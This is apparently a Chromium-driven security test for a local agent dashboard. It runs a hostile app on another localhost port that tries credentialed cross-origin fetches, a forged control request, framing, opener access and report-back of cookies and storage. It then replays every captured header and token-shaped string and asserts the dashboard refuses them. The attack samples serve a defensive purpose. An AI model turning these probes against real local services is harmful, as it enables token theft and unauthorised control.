// The attack the token header stops, in real Chromium: the app the agent builds, on another 127.0.0.1
// port, opened in the browser that has the dashboard open (and fetching, framing, being opened by it).
// It records every byte it is sent; nothing it saw opens the dashboard, and the token leaves no URL.
import { afterAll, beforeAll, expect, test } from "bun:test";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { readSnapshot } from "../../src/dashboard/snapshot.ts";
import { launchChromium, live, SKIP, until, waitText } from "../helpers/chromium.ts";
import { DATA_ROUTES, type Harness, raw, startHarness } from "./harness.ts";

let browser: Browser | undefined;
let h: Harness;
type Seen = { method: string; url: string; headers: Record<string, string>; body: string };
const seen: Seen[] = [];
let app: ReturnType<typeof Bun.serve>;

/** The agent's app: logs every request in full, and serves a page that tries every door of the dashboard. */
function appPage(dash: string): string {
  return `<!doctype html><title>agent app</title><iframe src="${dash}/"></iframe><iframe src="${dash}/api/snapshot"></iframe>
<script>
const D = ${JSON.stringify(dash)};
const report = (what) => fetch("/report", { method: "POST", body: JSON.stringify(what) });
const tries = [
  fetch(D + "/api/snapshot", { credentials: "include" }),
  fetch(D + "/", { mode: "no-cors", credentials: "include" }),
  fetch(D + "/api/control/pause", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }),
  fetch(D + "/api/control/budget", { method: "POST", credentials: "include", headers: { "Content-Type": "application/json", "X-Loki-Token": "guess" }, body: '{"limit_usd":1000}' }),
];
Promise.all(tries.map((t) => t.then((r) => r.status + " " + r.type, (e) => "failed " + e))).then((outcomes) => {
  let opener = null;
  try { opener = window.opener && window.opener.location.href; } catch (e) { opener = "denied"; }
  report({ outcomes, href: location.href, referrer: document.referrer, cookie: document.cookie, opener, storage: JSON.stringify(sessionStorage) }).then(() => report({ done: true }));
});
</script>`;
}

beforeAll(async () => {
  if (SKIP) return;
  browser = await launchChromium();
  app = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch: async (req) => {
      seen.push({ method: req.method, url: req.url, headers: Object.fromEntries(req.headers), body: await req.text() });
      return new Response(new URL(req.url).pathname === "/" ? appPage(h.dash.origin) : "ok", { headers: { "Content-Type": "text/html" } });
    },
  });
  // The run has finished with a proof the agent wrote: it asks for full referrers and loads and links to the app.
  h = await startHarness({
    snapshot: async (root, deps) => ({
      ...(await readSnapshot(root, deps)),
      outcome: {
        outcome: "verified",
        exit_code: 0,
        reason: "done",
        next: "",
        finished_at: new Date().toISOString(),
        pr_url: null,
        proof: { run_id: "r-test", url: "/proof" },
      },
    }),
  });
  mkdirSync(join(h.root, ".loki", "proofs", "r-test"), { recursive: true });
  const appUrl = `http://127.0.0.1:${app.port}`;
  writeFileSync(
    join(h.root, ".loki", "proofs", "r-test", "index.html"),
    `<meta name="referrer" content="unsafe-url"><p>proof</p><img src="${appUrl}/from-proof.png"><a id="out" href="${appUrl}/clicked">out</a>`,
  );
});
afterAll(async () => {
  await browser?.close();
  app?.stop(true);
  await h?.[Symbol.asyncDispose]();
});

const reports = () => seen.filter((s) => s.url.endsWith("/report")).map((s) => JSON.parse(s.body) as Record<string, unknown>);
const appDone = (n: number) => until(() => reports().filter((r) => r.done).length >= n, `${n} app page reports`);

live(SKIP ? "the agent's app attacks the dashboard (skipped: LOKI_SKIP_BROWSER_TESTS=1)" : "the agent's app attacks the dashboard", () => {
  test("the app never receives the token, and nothing it saw opens the dashboard; the token leaves the address bar", async () => {
    if (!browser) throw new Error("Chromium did not start");
    const context = await browser.newContext();
    const appUrl = `http://127.0.0.1:${app.port}`;
    // Cookies for 127.0.0.1 reach every port: the reason the dashboard uses none.
    await context.addCookies([{ name: "probe", value: "shared", url: h.dash.origin }]);
    const page: Page = await context.newPage();
    await page.goto(h.dash.url);
    await page.waitForSelector("body[data-ready]", { state: "attached" });
    expect(await page.evaluate("location.href")).toBe(`${h.dash.origin}/`);
    expect(await page.evaluate("sessionStorage.getItem('loki-token')")).toBe(h.token);
    await page.reload();
    await page.waitForSelector("body[data-ready]", { state: "attached" });
    expect(await page.locator("#error-banner").isHidden()).toBe(true);

    // The app in another tab, opened by the dashboard's tab (with an opener), and typed in by the user.
    const [popup] = await Promise.all([context.waitForEvent("page"), page.evaluate(`window.open(${JSON.stringify(appUrl)})`)]);
    await appDone(1);
    const typed = await context.newPage();
    await typed.goto(appUrl);
    await appDone(2);

    // The proof tab: the token is in neither its address nor its referrer; its agent-written links leak a spent key.
    const [proof] = await Promise.all([context.waitForEvent("page"), page.click("#p-outcome a")]);
    await proof.waitForLoadState();
    expect(proof.url()).toMatch(new RegExp(`^${h.dash.origin}/proof/[\\w-]{43}$`));
    expect(await proof.evaluate("document.referrer")).toBe("");
    await until(() => seen.some((s) => s.url.endsWith("/from-proof.png")), "the proof's image request");
    await proof.click("#out");
    await until(() => seen.some((s) => s.url.endsWith("/clicked")), "the proof's link");

    // The same tab navigated to the app, which then frames the dashboard: frame-ancestors 'none' keeps it blank.
    await page.goto(appUrl);
    await appDone(3);
    for (const r of reports().filter((r) => r.outcomes)) {
      expect((r.outcomes as string[])[0]).toMatch(/^failed/);
      expect((r.outcomes as string[])[3]).toMatch(/^failed/);
      expect(r.storage).toBe("{}");
    }

    const everything = JSON.stringify(seen);
    expect(everything).toContain("probe=shared");
    expect(everything).not.toContain(h.token);

    // Replay: every header the app got, a forged Origin, and every 43-character string it saw as a token, a `t` or a proof key.
    // (Chromium sent it no Referer at all, not even from the proof page that asked for unsafe-url.)
    expect(seen.filter((s) => s.headers.referer?.startsWith(h.dash.origin))).toEqual([]);
    const candidates = [...new Set(everything.match(/[\w-]{43}/g) ?? [])];
    // (the proof tab's own key, spent, joins them: what a leak of that address would hand over.)
    candidates.push(new URL(proof.url()).pathname.slice("/proof/".length));
    for (const s of seen) {
      const headers = Object.entries(s.headers).filter(([k]) => !["host", "content-length", "origin", "content-type"].includes(k));
      const head = headers.map(([k, v]) => `${k}: ${v}\r\n`).join("");
      const send = (method: string, path: string, extra = "", body = "") =>
        raw(
          h.port,
          `${method} ${path} HTTP/1.1\r\nHost: 127.0.0.1:${h.port}\r\n${head}${extra}Origin: ${h.dash.origin}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
          path.startsWith("/events"),
        );
      for (const path of DATA_ROUTES) expect({ path, status: (await send("GET", path)).status }).toEqual({ path, status: 401 });
      expect((await send("POST", "/api/control/pause", "", "{}")).status).toBe(401);
      expect((await send("POST", "/api/control/budget", "", '{"limit_usd":1000}')).status).toBe(401);
    }
    for (const key of candidates) {
      expect((await raw(h.port, `GET /proof/${key} HTTP/1.1\r\nHost: 127.0.0.1:${h.port}\r\n\r\n`)).status).toBe(401);
      expect((await raw(h.port, `GET /events?t=${key} HTTP/1.1\r\nHost: 127.0.0.1:${h.port}\r\n\r\n`, true)).status).toBe(401);
      expect((await h.post("/api/control/pause", {}, { "x-loki-token": key })).status).toBe(401);
    }
    expect(h.calls).toEqual([]);
    expect(existsSync(join(h.root, ".loki", "PAUSE"))).toBe(false);
    expect(existsSync(join(h.root, ".loki", "control"))).toBe(false);

    // A tab with no token says so; the signed-in tab still controls the run.
    const bare = await context.newPage();
    await bare.goto(`${h.dash.origin}/`);
    await waitText(bare, "#error-banner", /open the link `loki dashboard` printed/);
    await popup.close();
    await typed.goto(h.dash.url);
    await typed.waitForSelector("body[data-ready]", { state: "attached" });
    // (the run's process is gone, so the buttons are disabled: the page's own post() sends what a click would.)
    expect(await typed.evaluate(`post("pause", {})`)).toBe(true);
    await until(() => existsSync(join(h.root, ".loki", "PAUSE")), "the honest pause");
    expect(h.calls).toEqual(["pause"]);
    await context.close();
  }, 120_000);
});
